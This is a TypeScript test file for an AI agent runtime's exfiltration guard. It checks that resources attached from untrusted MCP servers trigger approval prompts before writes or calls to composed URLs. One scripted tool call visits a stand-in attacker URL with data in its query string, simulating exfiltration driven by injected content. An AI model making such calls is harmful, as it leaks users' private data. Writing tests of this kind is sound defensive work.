// An MCP resource attached to a message is its server's content, not the person's: the exfiltration
// guard and UNTRUSTED_CONTENT_WRITES count it as they count that server's results. In process, with
// the test server twice: `test` trusted (its read_log private), `web` the same server untrusted.
import { describe, expect, it } from 'vitest';
import type { StreamEvent } from '../../src/lib/protocol';
import { withAttachments } from '../../src/lib/server/mcp/attachments';
import type { Runtime } from '../../src/lib/server/runtime';
import { inProcessTests } from '../support/in-process';
import type { Script } from '../support/model-script';
import { eventsOfRun, startedRun } from '../support/run-events';
import { currentTurn } from '../support/scripts';

const LINKED = 'https://example.org/linked';
const visit = (url: string) => ({ name: 'test__visit', arguments: { url } });

/** The calls the model makes for the person's words (the message's first line), one per step. */
const PLANS: Record<string, { name: string; arguments: Record<string, unknown> }[]> = {
	'save it': [{ name: 'test__effect', arguments: { item: 'a' } }],
	'follow its link': [visit(LINKED)],
	'fetch another page': [visit('https://attacker.example/c?d=1')],
	'read it': [],
	'visit https://example.com/start, then what it links': [visit('https://example.com/start'), visit('https://example.org/next')]
};

const script: Script = (request) => {
	const { user, after } = currentTurn(request);
	const plan = PLANS[user.split('\n')[0]!] ?? [];
	const done = after.filter((m) => m.role === 'tool').length;
	return done < plan.length ? { toolCalls: [plan[done]!] } : { content: 'Done.' };
};

/** Sends `words` with `server`'s test://page attached, as POST /api/chat does; a new conversation unless one is named. */
async function sendWith(runtime: Runtime, words: string, server: string, conversation: string | null = null) {
	const read = await withAttachments(words, [{ server, uri: 'test://page' }], runtime.resources);
	if (!('message' in read)) throw new Error(`not read: ${JSON.stringify(read)}`);
	const started = startedRun(await runtime.runService.start({ kind: 'message', conversation, message: read.message }));
	return Object.assign(await eventsOfRun(runtime, started.run), { conversation: started.conversation });
}

const asked = (events: StreamEvent[]) => {
	const approval = events.find((e) => e.event === 'approval');
	return approval?.event === 'approval' ? approval.data.approvals.map((a) => ({ tool: a.tool, ...a.reason })) : [];
};

describe('a resource attached to a message', () => {
	const tests = inProcessTests();
	const servers = { web: { trusted: false } };

	it('with UNTRUSTED_CONTENT_WRITES=ask, holds a write after an untrusted server’s resource, not after a trusted one’s', async () => {
		const ollama = await tests.model(script);
		const { runtime, calls } = await tests.start({ ollamaUrl: ollama.url, servers, env: { TOOL_APPROVAL: 'none', UNTRUSTED_CONTENT_WRITES: 'ask' } });
		expect(asked(await sendWith(runtime, 'save it', 'test'))).toEqual([]);
		expect(calls()).toEqual([expect.stringMatching(/^effect .* a$/)]);

		expect(asked(await sendWith(runtime, 'save it', 'web'))).toEqual([
			{ tool: 'test__effect', kind: 'policy', message: expect.stringContaining('content from outside (from web resource test://page)') }
		]);
		expect(calls()).toHaveLength(1);
	});

	it('from an untrusted server: its links are known, any other URL asks, and beside private data every open-world call asks', async () => {
		const ollama = await tests.model(script);
		const { runtime, calls } = await tests.start({ ollamaUrl: ollama.url, servers, server: { private: { read_log: true } }, env: { TOOL_APPROVAL: 'none' } });
		expect(asked(await sendWith(runtime, 'follow its link', 'web'))).toEqual([]);
		expect(asked(await sendWith(runtime, 'fetch another page', 'web'))).toEqual([
			{ tool: 'test__visit', kind: 'composed-url', message: expect.stringContaining('https://attacker.example/c?d=1') }
		]);
		// The trusted server's page is private data (a tool of `test` is private); the untrusted page then joins it.
		const { conversation } = await sendWith(runtime, 'read it', 'test');
		expect(asked(await sendWith(runtime, 'follow its link', 'web', conversation))).toEqual([
			{
				tool: 'test__visit',
				kind: 'composed-url',
				message: expect.stringMatching(/private data \(from test resource test:\/\/page\) and content from outside \(from web resource test:\/\/page\)/)
			}
		]);
		expect(calls().filter((c) => c.startsWith('visit'))).toEqual([expect.stringMatching(/linked$/)]);
	});

	it('from a trusted server: its links are not the person’s, and a private server’s resource is private data', async () => {
		const ollama = await tests.model(script);
		const { runtime, calls } = await tests.start({ ollamaUrl: ollama.url, server: { private: { read_log: true } }, env: { TOOL_APPROVAL: 'none' } });
		expect(asked(await sendWith(runtime, 'follow its link', 'test'))).toEqual([
			{ tool: 'test__visit', kind: 'composed-url', message: expect.stringContaining(LINKED) }
		]);
		expect(asked(await sendWith(runtime, 'visit https://example.com/start, then what it links', 'test'))).toEqual([
			{
				tool: 'test__visit',
				kind: 'composed-url',
				message: expect.stringMatching(/private data \(from test resource test:\/\/page\) and content from outside \(from test__visit\)/)
			}
		]);
		expect(calls().filter((c) => c.startsWith('visit'))).toEqual([expect.stringMatching(/start$/)]);
	});
});
